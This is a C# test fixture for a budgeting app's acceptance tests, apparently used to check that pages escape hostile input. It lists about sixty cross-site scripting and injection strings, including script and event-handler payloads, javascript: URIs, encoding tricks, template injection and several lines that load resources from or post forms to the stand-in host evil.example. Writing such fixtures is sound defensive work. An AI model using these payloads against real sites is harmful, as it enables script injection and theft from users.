namespace BiweeklyBudget.AcceptanceTests.Fixtures;

/// <summary>
/// Texts with which somebody would have a page do something: as an element, out of an attribute, a script, a style, a comment or a template, by another encoding, by an address. Each of them that is taken for more
/// than a text makes an element <c>bb-x</c>, sets <c>bbX</c>, or is refused by the page's policy. None is longer than 50 characters, so that every field takes them.
/// </summary>
internal static class HostileTexts
{
    /// <summary>What a text that became more than text does.</summary>
    public const string Element = "bb-x";

    public static IReadOnlyList<string> All { get; } =
    [
        "<bb-x>",
        "</td><bb-x>",
        "</a></li></p></div><bb-x>",
        "\"><bb-x>",
        "'><bb-x>",
        "`><bb-x>",
        "\"/><bb-x a=\"",
        "<script>bbX=1</script>",
        "</script><script>bbX=1</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>bbX=1</scr</script>ipt>",
        "<img src=x onerror=bbX=1>",
        "<img/src=x/onerror=bbX=1//",
        "<svg onload=bbX=1>",
        "<svg><script>bbX=1</script></svg>",
        "<svg><animate onbegin=bbX=1 attributeName=x>",
        "<math><mi xlink:href=javascript:bbX=1>x",
        "<body onload=bbX=1>",
        "<iframe srcdoc='<bb-x>'>",
        "<iframe src=javascript:bbX=1>",
        "<object data=javascript:bbX=1>",
        "<embed src=//evil.example/x.swf>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>*{background:url(//evil.example)}</style>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0;//evil.example>",
        "<form action=//evil.example><input name=a>",
        "<input autofocus onfocus=bbX=1>",
        "<details open ontoggle=bbX=1>",
        "<video><source onerror=bbX=1>",
        "<a href=javascript:bbX=1>x</a>",
        "<template><bb-x></template>",
        "\" onmouseover=bbX=1 x=\"",
        "' onfocus=bbX=1 autofocus x='",
        "\" style=\"x:expression(bbX=1)",
        "javascript:bbX=1",
        "JaVaScRiPt:bbX=1//",
        "data:text/html,<bb-x>",
        "vbscript:bbX=1",
        "//evil.example/x",
        "&lt;bb-x&gt;",
        "&#60;bb-x&#62;",
        "&amp;lt;bb-x&amp;gt;",
        "%3Cbb-x%3E",
        "\\u003cbb-x\\u003e",
        "+ADw-bb-x+AD4-",
        "\uFF1Cbb-x\uFF1E",
        "<!--><bb-x>-->",
        "--><bb-x><!--",
        "]]><bb-x>",
        "<![CDATA[<bb-x>]]>",
        "${bbX=1}",
        "{{constructor.constructor('bbX=1')()}}",
        "#{bbX=1} <%= bbX=1 %> @(bbX)",
        "';bbX=1;//",
        "\";bbX=1;//",
        "\\\";bbX=1;//",
        "*/bbX=1/*",
        "__proto__",
        "constructor",
        "\u202Ebb-x\u202C \u2066<bb-x>\u2069",
    ];
}
